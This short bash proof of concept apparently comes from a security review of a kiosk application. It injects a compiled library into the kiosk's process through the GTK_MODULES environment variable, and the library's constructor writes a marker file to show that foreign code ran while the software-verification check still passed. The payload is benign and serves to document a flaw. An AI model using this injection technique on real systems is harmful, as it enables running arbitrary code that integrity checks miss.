#!/bin/bash
# GTK_MODULES is not one of the variables the launcher drops or the check names: GTK loads the library into the
# kiosk's JVM, runs its constructor, finds no gtk_module_init and unloads it (docs/security-attack-2026-11-28.md, A8).
# Usage: IMG=... CFG=... DISPLAY=:1xx ./gtk-modules.sh
set -eu
w=$(mktemp -d)
cat > "$w/m.c" <<'C'
#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void init(void) {
  char b[64]; snprintf(b, sizeof b, "/tmp/gtkmod-%d", (int)getpid());
  FILE *o = fopen(b, "w"); if (o) { fputs("foreign constructor ran in the kiosk\n", o); fclose(o); } }
C
gcc -shared -fPIC -o "$w/m.so" "$w/m.c"; rm -f /tmp/gtkmod-*
GTK_MODULES="$w/m.so" "$IMG/bin/cabinet" run --config "$CFG" & pid=$!
sleep 25; kill $pid; wait $pid || true
ls /tmp/gtkmod-* && echo "then: provision export, events.csv shows SOFTWARE_VERIFICATION passed"
